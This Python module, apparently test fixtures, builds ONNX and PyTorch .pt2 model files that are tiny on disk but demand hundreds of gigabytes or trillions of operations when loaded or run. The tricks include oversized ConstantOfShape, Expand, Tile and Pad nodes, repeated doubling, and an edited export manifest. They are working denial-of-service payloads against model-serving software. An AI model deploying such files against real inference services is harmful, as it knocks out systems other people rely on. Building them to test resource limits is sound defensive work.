"""Small models that load and would take any amount of memory or time when they run."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch
from onnx import NodeProto, TensorProto, helper, numpy_helper
from torch import Tensor, nn

Maker = Callable[[Path], None]


def _write(path: Path, nodes: list[NodeProto], **tensors: np.ndarray) -> None:
    """y of x [n, 3] by the nodes given, the last of which makes y."""
    graph = helper.make_graph(
        nodes,
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["n", 3])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, None)],
        [
            numpy_helper.from_array(np.eye(3, dtype=np.float32), "w"),
            *(numpy_helper.from_array(each, name) for name, each in tensors.items()),
        ],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)], ir_version=8)
    path.write_bytes(model.SerializeToString())


PRODUCT = helper.make_node("MatMul", ["x", "w"], ["h"], name="product")


def _numbers(*values: int) -> np.ndarray:
    return np.array(values, dtype=np.int64)


def constant_of_400_gigabytes(path: Path) -> None:
    value = numpy_helper.from_array(np.ones(1, dtype=np.float32))
    constant = helper.make_node("ConstantOfShape", ["shape"], ["c"], value=value)
    nodes = [PRODUCT, constant, helper.make_node("Add", ["h", "c"], ["y"])]
    _write(path, nodes, shape=_numbers(10**5, 10**5, 10))


def expanded_sum(path: Path) -> None:
    nodes = [
        PRODUCT,
        helper.make_node("Expand", ["h", "shape"], ["e"]),
        helper.make_node("Add", ["e", "e"], ["y"]),
    ]
    _write(path, nodes, shape=_numbers(10**10, 1, 3))


def tiled(path: Path) -> None:
    _write(
        path,
        [PRODUCT, helper.make_node("Tile", ["h", "times"], ["y"])],
        times=_numbers(10**5, 10**5),
    )


def endless_range(path: Path) -> None:
    numbers = {"a": np.array(0.0), "b": np.array(1e11), "c": np.array(1.0)}
    nodes = [
        PRODUCT,
        helper.make_node("Range", ["a", "b", "c"], ["r"]),
        helper.make_node("ReduceMax", ["r"], ["m"], keepdims=0),
        helper.make_node("Add", ["h", "m"], ["y"]),
    ]
    _write(path, nodes, **{name: each.astype(np.float32) for name, each in numbers.items()})


def doubled_forty_times(path: Path) -> None:
    """Every operation is small beside the one before: 2^40 values at the end."""
    nodes, last = [PRODUCT], "h"
    for number in range(40):
        made = "y" if number == 39 else f"d{number}"
        nodes.append(helper.make_node("Concat", [last, last], [made], axis=1))
        last = made
    _write(path, nodes)


def padded_image(path: Path) -> None:
    nodes = [
        PRODUCT,
        helper.make_node("Reshape", ["h", "image"], ["i"]),
        helper.make_node("Pad", ["i", "pads"], ["y"]),
    ]
    pads = _numbers(0, 0, 10**6, 10**6, 0, 0, 10**6, 10**6)
    _write(path, nodes, image=_numbers(-1, 1, 1, 3), pads=pads)


def endless_products(path: Path) -> None:
    """2,000 products of matrices that fit into memory: 4e12 operations."""
    nodes = [PRODUCT, helper.make_node("Expand", ["h", "shape"], ["p0"])]
    nodes.append(helper.make_node("Transpose", ["p0"], ["t"], perm=[1, 0]))
    nodes.append(helper.make_node("MatMul", ["p0", "t"], ["q0"]))
    nodes += [
        helper.make_node("MatMul", [f"q{i}", "q0"], ["y" if i == 1999 else f"q{i + 1}"])
        for i in range(2000)
    ]
    _write(path, nodes, shape=_numbers(1000, 3))


class _Full(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(3, 2)

    def forward(self, x: Tensor) -> Tensor:
        return self.fc(x) + torch.full((4, 2), 1.0).sum()


def exported_full(path: Path) -> None:
    """A constant of 4 x 2 values when it was exported, of 800 GB when it is loaded."""
    import zipfile

    program = torch.export.export(_Full(), (torch.zeros(2, 3),))
    small = path.with_name("small.pt2")
    torch.export.save(program, small)
    with zipfile.ZipFile(small) as archive, zipfile.ZipFile(path, "w") as edited:
        for name in archive.namelist():
            content = archive.read(name)
            if name.endswith("models/model.json"):
                before = b'{"as_ints": [4, 2]}'
                assert before in content
                content = content.replace(before, b'{"as_ints": [100000000000, 2]}')
            edited.writestr(name, content)
    small.unlink()


ATTACKS: dict[str, tuple[Maker, str]] = {
    f"{maker.__name__}{suffix}": (maker, suffix)
    for maker, suffix in [
        (constant_of_400_gigabytes, ".onnx"),
        (expanded_sum, ".onnx"),
        (tiled, ".onnx"),
        (endless_range, ".onnx"),
        (doubled_forty_times, ".onnx"),
        (padded_image, ".onnx"),
        (endless_products, ".onnx"),
        (exported_full, ".pt2"),
    ]
}
